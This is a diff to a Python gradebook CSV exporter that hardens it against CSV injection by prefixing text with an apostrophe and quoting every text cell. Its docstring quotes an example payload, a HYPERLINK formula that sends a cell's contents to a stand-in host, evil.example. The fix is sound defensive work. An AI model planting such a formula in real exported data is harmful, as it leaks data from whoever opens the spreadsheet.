@@ -3,8 +3,8 @@
 A student chooses their own display name (or the LMS passes it on). A name such as
 ``=HYPERLINK("http://evil.example/?"&A1, "Ada")`` would run as a formula in Excel, LibreOffice
 or Google Sheets when an instructor opens the export (CSV injection). Such text gets a leading
-apostrophe, which the spreadsheets show as text and do not display. Numbers are written as
-numbers, so a negative metric is still a number.
+apostrophe, which the spreadsheets show as text and do not display, and all text is quoted.
+Numbers are written as numbers, so a negative metric is still a number.
 """
 
 from __future__ import annotations
@@ -30,6 +30,8 @@ def safe_cell(value: Cell) -> str | int | float:
 def csv_text(rows: Iterable[Iterable[Cell]]) -> str:
     """The rows as CSV with CRLF line ends (what both Canvas and Moodle import), every cell made safe."""
     out = io.StringIO()
-    writer = csv.writer(out, lineterminator="\r\n")
+    # Text quoted, always: Excel where the list separator is ";" (German, French, ...) would split an
+    # unquoted "Ada;=HYPERLINK(...)" into two cells, the second a formula again.
+    writer = csv.writer(out, lineterminator="\r\n", quoting=csv.QUOTE_NONNUMERIC)
     writer.writerows([safe_cell(value) for value in row] for row in rows)
     return out.getvalue()
